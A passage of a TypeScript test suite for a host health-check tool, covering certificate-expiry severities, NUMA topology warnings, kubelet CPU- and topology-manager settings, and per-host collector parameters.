    expect(ro.severity).toBe('critical');
  });
});

describe('certificates', () => {
  const file = (path: string, daysLeft: number, over: Data = {}) => ({ path, format: 'PEM', certs: [{ subject: 'CN=svc', issuer: 'CN=ca', serial: '01', notBefore: NOW - 300 * DAY, notAfter: NOW + daysLeft * DAY }], ...over });
  test('< 30 days warning, < 7 critical, expired critical, errors are errors, nothing found is ok', async () => {
    const fs = await judge({
      patch: { certs: (d) => (d.files = [file('/etc/ssl/ok.pem', 200), file('/etc/ssl/soon.pem', 20), file('/etc/ssl/urgent.der', 3, { format: 'DER' }), file('/etc/ssl/old.pem', -2), { path: '/etc/ssl/broken.crt', format: 'PEM', certs: [], error: 'cannot decode the certificate: [SSL] PEM lib' }]) },
    });
    expect(of(fs, 'host.cert.expiry', 'web-1:/etc/ssl/ok.pem')).toMatchObject({ severity: 'ok', value: 200, unit: 'days' });
    expect(of(fs, 'host.cert.expiry', 'web-1:/etc/ssl/soon.pem').severity).toBe('warning');
    const urgent = of(fs, 'host.cert.expiry', 'web-1:/etc/ssl/urgent.der');
    expect(urgent.severity).toBe('critical');
    expect(urgent.evidence?.command).toContain('-inform DER');
    expect(of(fs, 'host.cert.expiry', 'web-1:/etc/ssl/old.pem').message).toContain('expired 2 days ago');
    expect(of(fs, 'host.cert.expiry', 'web-1:/etc/ssl/broken.crt').severity).toBe('error');
    expect(of(await judge(), 'host.cert.expiry').message).toContain('no certificate files match');
  });
  test('a bundle is judged by its earliest certificate', async () => {
    const bundle = file('/etc/ssl/chain.pem', 400);
    bundle.certs.push({ subject: 'CN=intermediate', issuer: 'CN=root', serial: '02', notBefore: NOW - DAY, notAfter: NOW + 5 * DAY });
    const f = of(await judge({ patch: { certs: (d) => (d.files = [bundle]) } }), 'host.cert.expiry', 'web-1:/etc/ssl/chain.pem');
    expect(f.severity).toBe('critical');
    expect(f.message).toContain('CN=intermediate');
    expect(f.message).toContain('earliest of 2 certificates');
  });
});

describe('NUMA and kubelet (seed 004)', () => {
  const node = (id: number, cpus: number, gib: number) => ({ id, cpus, cpuList: cpus ? `${id * cpus}-${id * cpus + cpus - 1}` : '', memTotalBytes: gib * 1024 ** 3, memFreeBytes: 0 });
  test('numa.topology: one node is fine; interleaving, memoryless and unbalanced nodes warn', async () => {
    expect(of(await judge(), 'host.numa.topology')).toMatchObject({ severity: 'ok', value: 1 });
    expect(of(await judge({ patch: { numa: (d) => Object.assign(d, { nodes: [node(0, 32, 128), node(1, 32, 128)], sockets: 2, cpus: 64 }) } }), 'host.numa.topology').severity).toBe('ok');
    expect(of(await judge({ patch: { numa: (d) => Object.assign(d, { nodes: [node(0, 64, 256)], sockets: 2, cpus: 64 }) } }), 'host.numa.topology').message).toContain('node interleaving');
    expect(of(await judge({ patch: { numa: (d) => Object.assign(d, { nodes: [node(0, 32, 256), node(1, 32, 0)], sockets: 2 }) } }), 'host.numa.topology').message).toContain('no memory');
    expect(of(await judge({ patch: { numa: (d) => Object.assign(d, { nodes: [node(0, 32, 200), node(1, 32, 56)], sockets: 2 }) } }), 'host.numa.topology').message).toContain('unbalanced');
  });

  const kubelet = (over: Data) => (d: Data) => Object.assign(d, { present: true, running: true, binary: '/usr/bin/kubelet', configFile: '/var/lib/kubelet/config.yaml', configError: null, config: {}, flags: {}, cpuManagerState: null, numaNodes: 1, cpus: 16 }, over);
  test('not a Kubernetes node: ok for both kubelet checks', async () => {
    const fs = await judge();
    for (const id of ['host.kubelet.cpu_manager', 'host.kubelet.topology_manager']) expect(of(fs, id)).toMatchObject({ severity: 'ok', message: expect.stringContaining('not a Kubernetes node') });
  });

  test('cpu_manager: static needs a reservation; checkpoint mismatch; latency-sensitive pools want static', async () => {
    const j = async (over: Data, spec?: Record<string, unknown>) => of(await judge({ patch: { kubelet: kubelet(over) }, ...(spec ? { spec } : {}) }), 'host.kubelet.cpu_manager');
    expect(await j({})).toMatchObject({ severity: 'ok', value: 'none' });
    expect(await j({ config: { cpuManagerPolicy: 'static', reservedSystemCPUs: '0,1' } })).toMatchObject({ severity: 'ok', value: 'static' });
    expect(await j({ config: { cpuManagerPolicy: 'static', kubeReserved: { cpu: '500m', memory: '1Gi' } } })).toMatchObject({ severity: 'ok' });
    expect((await j({ config: { cpuManagerPolicy: 'static' } })).severity).toBe('critical');
    expect((await j({ config: { cpuManagerPolicy: 'static', reservedSystemCPUs: '0' }, cpuManagerState: { policyName: 'none', defaultCpuSet: '', entries: 0 } })).message).toContain('checkpoint');
    // Flags win over the config file, as in the kubelet.
    expect(await j({ config: { cpuManagerPolicy: 'none' }, flags: { cpuManagerPolicy: 'static', reservedSystemCPUs: '0' } })).toMatchObject({ severity: 'ok', value: 'static' });
    expect((await j({ config: { cpuManagerPolicy: 'Static' } })).severity).toBe('critical');
    const latency = { overrides: [{ match: { groups: ['web'] }, checks: { 'host.kubelet.*': { latencySensitive: true } } }] };
    expect((await j({}, latency)).severity).toBe('warning');
    expect((await j({ numaNodes: 2 })).severity).toBe('info');
    expect((await j({ numaNodes: 2 }, latency)).message).toContain('and NUMA nodes');
  });

  test('topology_manager: consistency with the CPU manager and the NUMA layout', async () => {
    const j = async (over: Data, spec?: Record<string, unknown>) => of(await judge({ patch: { kubelet: kubelet(over) }, ...(spec ? { spec } : {}) }), 'host.kubelet.topology_manager');
    const latency = { checks: { 'host.kubelet.topology_manager': { latencySensitive: true } } };
    expect((await j({})).severity).toBe('ok');
    expect((await j({ config: { topologyManagerPolicy: 'single-numa-node' } })).message).toContain('with cpuManagerPolicy none');
    expect((await j({ numaNodes: 2, config: { cpuManagerPolicy: 'static', reservedSystemCPUs: '0' } }, latency)).severity).toBe('warning');
    expect((await j({ numaNodes: 2, config: { cpuManagerPolicy: 'static', reservedSystemCPUs: '0' } })).severity).toBe('info');
    expect((await j({ numaNodes: 2, config: { cpuManagerPolicy: 'static', reservedSystemCPUs: '0', topologyManagerPolicy: 'single-numa-node' } }, latency)).severity).toBe('ok');
    expect((await j({ config: { topologyManagerPolicy: 'strict' } })).severity).toBe('critical');
  });
});

describe('collector parameters', () => {
  test('sections no enabled check reads are not collected', () => {
    const r = hostModuleRequest(config({ checks: { 'host.cert.*': { enabled: false }, 'host.kubelet.*': { enabled: false } } }), { name: 'a', groups: [] });
    expect(r.sections).not.toContain('certs');
    expect(r.sections).not.toContain('kubelet');
    expect(r.sections).toContain('numa');
  });
  test('time servers, cert paths, expected services and sample windows reach the module per host', () => {
    const spec = {
      checks: { 'host.cpu.usage': { sampleSeconds: 2 } },
      overrides: [{ match: { groups: ['k8s'] }, checks: { 'host.time.offset': { servers: ['ntp1'], port: 1123 }, 'host.cert.expiry': { paths: ['/etc/x/*.pem'] }, 'host.systemd.boot_services': { expected: ['kubelet'] } } }],
    };
    const k8s = hostModuleRequest(config(spec), { name: 'n1', groups: ['k8s'] });
    expect(k8s.params.time).toEqual({ servers: ['ntp1'], port: 1123 });
    expect(k8s.params.certs).toEqual({ paths: ['/etc/x/*.pem'] });
    expect(k8s.params.systemd).toEqual({ expected: ['kubelet'] });
    expect(k8s.params.cpu).toEqual({ sample_seconds: 2 });
    expect(hostModuleRequest(config(spec), { name: 'w1', groups: ['web'] }).params.time).toBeUndefined();
  });
});
